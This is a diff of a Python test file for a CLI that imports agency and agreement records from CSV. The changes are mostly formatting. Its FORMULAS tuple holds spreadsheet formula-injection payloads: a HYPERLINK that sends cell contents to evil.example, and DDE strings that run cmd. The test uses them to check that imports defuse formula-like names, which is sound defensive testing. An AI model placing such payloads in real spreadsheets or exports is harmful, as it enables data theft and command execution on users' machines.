@@ -10,12 +10,18 @@ from click.testing import CliRunner
 from csv_rows import write_csv
 
 from cli import main
-from core import files as _files, settings
+from core import files as _files
+from core import settings
 from directory import io as directory_io
 from directory.io import default_dir
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")  # fmt: skip
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+)
 """Names and notes of the hostile agencies (a leading tab or carriage return is stripped by every import)."""
 
 
@@ -27,7 +33,7 @@ def _sample(name: str) -> list[dict[str, str]]:
 @pytest.fixture
 def hostile(engine, tmp_path):
     """A database of six agencies and one agreement whose names start like formulas."""
-    rows = [{**row, "name": formula, "notes": formula} for row, formula in zip(_sample("agencies"), FORMULAS)]
+    rows = [{**row, "name": formula, "notes": formula} for row, formula in zip(_sample("agencies"), FORMULAS, strict=False)]
     counts = directory_io.import_agencies(engine, write_csv(tmp_path / "agencies.csv", rows))
     agreement = {**_sample("agreements")[0], "title": FORMULAS[0]}
     directory_io.import_agreements(engine, write_csv(tmp_path / "agreements.csv", [agreement]))
